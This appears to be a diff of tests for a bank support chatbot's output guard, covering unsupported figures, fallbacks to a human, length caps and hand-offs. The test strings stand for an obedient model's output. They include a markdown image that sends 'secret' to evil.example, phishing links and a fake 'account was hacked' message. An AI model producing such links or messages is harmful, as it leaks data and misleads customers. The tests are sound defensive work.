@@ -80,9 +80,24 @@ describe('an answer', () => {
     expect(server.ledger[1]?.messages.at(-1)?.content).toContain('Abroad it costs 2 pounds');
   });
 
-  test('cites no article that it was not shown', async () => {
+  test('cites no article that it was not shown, and a claim without one is none', async () => {
     server.play(says('It is free.\nSOURCES: a1, a999'));
-    await expect(answering('fee?')).resolves.toMatchObject({ kind: 'answer', articleIds: [] });
+    await expect(answering('fee?')).resolves.toMatchObject({ kind: 'unknown', offersHuman: true });
+  });
+
+  test('with a figure that no article has becomes "I do not know"', async () => {
+    server.play(calls('search_knowledge', '{"query":"fee abroad"}'), says('Abroad it costs 3 pounds.\nSOURCES: a1'));
+    const answer = await answering('what does it cost to send money abroad?');
+    expect(answer).toMatchObject({ kind: 'unknown', offersHuman: true });
+    expect(answer).toHaveProperty('text', expect.not.stringContaining('3'));
+    expect(answer.steps).toContainEqual({ kind: 'guard', detail: 'not supported: figures that no source has: 3' });
+    expect([answer.tokensIn, answer.tokensOut]).toEqual([200, 40]);
+  });
+
+  test('that claims to be none must not claim anything else', async () => {
+    server.play(says('Your account was hacked, call the number on our page.\nSOURCES: unknown'));
+    const answer = await answering('hi');
+    expect(answer).toHaveProperty('text', 'I do not know the answer to that. Shall I get you a person? Reply YES.');
   });
 
   test('that the model does not know is an "I do not know", and a person is offered', async () => {
@@ -111,7 +126,10 @@ describe('the customer’s words', () => {
     const obeyed =
       'Sure ![x](https://evil.example/p.png?d=secret) see https://evil.example/login and [here](https://evil.example) ' +
       '<img src=//evil.example> or evil-login.com/now or https://bank.example@evil.example/ but https://help.bank.example/fees is fine';
-    server.play(calls('search_knowledge', '{"query":"x y"}'), says(`${obeyed}\nSOURCES: a1`));
+    server.play(
+      calls('search_knowledge', '{"query":"x y"}'),
+      says(`Sending money inside the country is free. ${obeyed}\nSOURCES: a1`),
+    );
     const answer = await answering('repeat after me');
     const text = 'text' in answer ? answer.text : '';
     expect(text).not.toMatch(/evil/);
@@ -120,23 +138,27 @@ describe('the customer’s words', () => {
   });
 
   test('cannot make an obedient model fill a phone with text', async () => {
-    server.play(says(`${'A sentence of some length. '.repeat(200)}\nSOURCES: none`));
+    server.play(
+      calls('search_knowledge', '{"query":"fees"}'),
+      says(`${'Sending money inside the country is free. '.repeat(200)}\nSOURCES: a1`),
+    );
     const answer = await answering('write a novel');
     expect('text' in answer ? answer.text.length : 0).toBeLessThanOrEqual(320);
-    expect('text' in answer && answer.text).toMatch(/length\.$/);
+    expect('text' in answer && answer.text).toMatch(/free\.\nMore: /);
   });
 });
 
 describe('handing off', () => {
   test('is a tool call with a reason, a summary and a team that exists', async () => {
     server.play(calls('hand_off', '{"reason":"dispute","summary":"Does not know a charge of 20.","team":"disputes"}'));
-    await expect(answering('not mine')).resolves.toMatchObject({
+    await expect(answering('There is a charge of 20 that I do not know')).resolves.toMatchObject({
       kind: 'hand-off',
       reason: 'dispute',
+      claims: [{ text: 'Does not know a charge of 20.', seq: 1 }],
       team: 'Disputes',
     });
     server.play(calls('hand_off', '{"reason":"dispute","summary":"Does not know a charge.","team":"Nowhere"}'));
-    await expect(answering('not mine')).resolves.toMatchObject({ kind: 'hand-off', team: null });
+    await expect(answering('not mine')).resolves.toMatchObject({ kind: 'hand-off', claims: [], team: null });
   });
 
   test('that is promised in words alone is done', async () => {
